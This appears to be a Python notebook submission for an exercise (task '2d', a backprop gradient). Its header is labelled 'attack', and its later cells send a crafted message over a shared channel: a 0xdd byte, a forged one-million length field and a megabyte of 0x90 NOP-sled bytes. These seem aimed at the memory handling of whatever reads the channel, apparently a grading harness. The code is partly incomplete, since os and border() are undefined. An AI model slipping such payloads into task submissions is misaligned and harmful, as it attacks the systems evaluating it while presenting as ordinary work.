# /// attack
# tries = "one byte each on the wire, many more in memory"
# total = 2
# cells = ["cut"]
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %% shared border

# %%
def send(data):
    whole = len(data).to_bytes(4, "little") + data
    while whole:
        whole = whole[os.write(border(), whole) :]

# %%
send(b"\xdd" + (1_000_000).to_bytes(4, "big") + b"\x90" * 1_000_000)
